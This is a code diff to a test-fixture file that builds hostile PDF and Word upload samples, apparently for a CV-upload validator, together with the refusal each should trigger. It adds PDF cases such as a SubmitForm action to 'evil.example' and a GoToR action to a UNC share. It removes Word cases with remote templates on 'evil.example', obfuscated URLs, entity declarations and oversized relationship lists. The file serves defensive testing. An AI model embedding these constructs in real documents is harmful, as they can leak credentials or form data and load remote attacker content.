@@ -1,5 +1,5 @@
 import { limits } from '@ithaca/contracts/limits';
-import { docxOf, oleOf, pdfOf } from '../sample-files.ts';
+import { pdfOf } from '../sample-files.ts';
 import { damaged, type HostileFile } from './hostile-file.ts';
 import { objectStreamOf, objectStreamWith } from './pdf-objects.ts';
 
@@ -8,8 +8,9 @@ const fullOf = (part: string) => () => pdfOf(part.repeat(limits.uploadBytes / pa
 
 const action = '<</S/JavaScript/JS(app.alert(1))>>';
 const activeContent = { refused: /script or other active content/ };
-/** Files that take long to search. */
-export const endless: HostileFile[] = [
+
+/** PDFs that take long to search. */
+export const endlessPdfs: HostileFile[] = [
   [
     'cv_document',
     'a PDF full of streams',
@@ -37,26 +38,8 @@ export const endless: HostileFile[] = [
     { type: 'application/pdf' },
   ],
 ];
-const macros = { refused: /macros/ };
-const loading = { refused: /loads parts of it from elsewhere/ };
-const stored = { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };
-
-/** A document with a relationship of its settings. */
-const relatedTo = (
-  target: string,
-  type = 'attachedTemplate',
-  name = 'word/_rels/settings.xml.rels',
-) =>
-  docxOf({
-    name,
-    content:
-      '<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="a>b" ' +
-      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
-      `Target='${target}' TargetMode="External"/></Relationships>`,
-  });
-
-/** Files that would run something when they are opened. */
-export const active: HostileFile[] = [
+/** PDFs that would run something when they are opened. */
+export const activePdfs: HostileFile[] = [
   [
     'cv_document',
     'a PDF with JavaScript',
@@ -138,6 +121,32 @@ export const active: HostileFile[] = [
     activeContent,
   ],
   ['cv_document', 'a PDF with a player', 'a.pdf', pdfOf('<</Subtype/RichMedia>>'), activeContent],
+  ...[
+    ['a form with scripts', '<</AcroForm<</Fields[]/XFA[(template) 5 0 R]>>>>'],
+    ['a form with scripts in one stream', '<</AcroForm<</Fields[]/#58FA % form\n5 0 R>>>>'],
+    ['an action that opens an embedded file', '<</OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>>>'],
+    [
+      'an action that opens a file of a share',
+      '<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>>>',
+    ],
+    ['an action that sends a form', '<</OpenAction<</S/SubmitForm/F(https://evil.example)>>>>'],
+    ['an action that imports data', '<</OpenAction<</S/ImportData/F(a.fdf)>>>>'],
+  ].map(
+    ([what, object]): HostileFile => [
+      'cv_document',
+      `a PDF with ${what}`,
+      'a.pdf',
+      pdfOf(`4 0 obj\n${object}\nendobj\n`),
+      activeContent,
+    ],
+  ),
+  [
+    'cv_document',
+    'a PDF with a file that nobody opens for the reader',
+    'a.pdf',
+    pdfOf('4 0 obj\n<</Type/EmbeddedFile/Length 0>>stream\n\nendstream\nendobj\n'),
+    { type: 'application/pdf' },
+  ],
   [
     'cv_document',
     'a PDF with a password',
@@ -152,99 +161,4 @@ export const active: HostileFile[] = [
     pdfOf('<</Type/ObjStm>>\nstream\nxxx\nendstream'),
     damaged,
   ],
-  [
-    'cv_document',
-    'a document with macros',
-    'a.docx',
-    docxOf({ name: 'word/vbaProject.bin', content: '' }),
-    macros,
-  ],
-  [
-    'cv_document',
-    'a Word 97 document with macros',
-    'a.doc',
-    oleOf('WordDocument', '_VBA_PROJECT'),
-    macros,
-  ],
-  [
-    'cv_document',
-    'a template on the web',
-    'a.docx',
-    relatedTo('https://evil.example/a.dotm'),
-    loading,
-  ],
-  [
-    'cv_document',
-    'a template of a share',
-    'a.docx',
-    relatedTo('\\\\evil.example\\a\\a.dotm'),
-    loading,
-  ],
-  [
-    'cv_document',
-    'a template by file://',
-    'a.docx',
-    relatedTo('file://evil.example/a.dotm'),
-    loading,
-  ],
-  [
-    'cv_document',
-    'a picture that is loaded',
-    'a.docx',
-    relatedTo('http://evil.example/a', 'image'),
-    loading,
-  ],
-  [
-    'cv_document',
-    'a template in other letters',
-    'a.docx',
-    relatedTo('&#x68;ttp&#58;//evil.example/a', 'attachedTemplate', 'WORD/_RELS/a.RELS'),
-    loading,
-  ],
-  [
-    'cv_document',
-    'a list of relationships in UTF-16',
-    'a.docx',
-    docxOf({
-      name: 'word/_rels/a.rels',
-      content: Buffer.from('\ufeff<Relationships/>', 'utf16le'),
-    }),
-    damaged,
-  ],
-  [
-    'cv_document',
-    'a list of relationships with entities',
-    'a.docx',
-    docxOf({ name: '_rels/.rels', content: '<!DOCTYPE a [<!ENTITY e "External">]><a/>' }),
-    damaged,
-  ],
-  [
-    'cv_document',
-    'a list of relationships that expands',
-    'a.docx',
-    docxOf({ name: '_rels/.rels', content: ' '.repeat(2 * 1024 * 1024) }),
-    damaged,
-  ],
-  [
-    'cv_document',
-    'a list of relationships that is larger than it says',
-    'a.docx',
-    docxOf({ name: '_rels/.rels', content: ' '.repeat(100_000), claimedSize: 10 }),
-    damaged,
-  ],
-  [
-    'cv_document',
-    'a document with a link',
-    'a.docx',
-    relatedTo('https://ana.test', 'hyperlink'),
-    stored,
-  ],
-  [
-    'cv_document',
-    'an own template',
-    'a.docx',
-    relatedTo('file:///C:\\Users\\Ana\\CV.dotx'),
-    stored,
-  ],
-  ['cv_document', 'the usual template', 'a.docx', relatedTo('Normal.dotm'), stored],
 ];
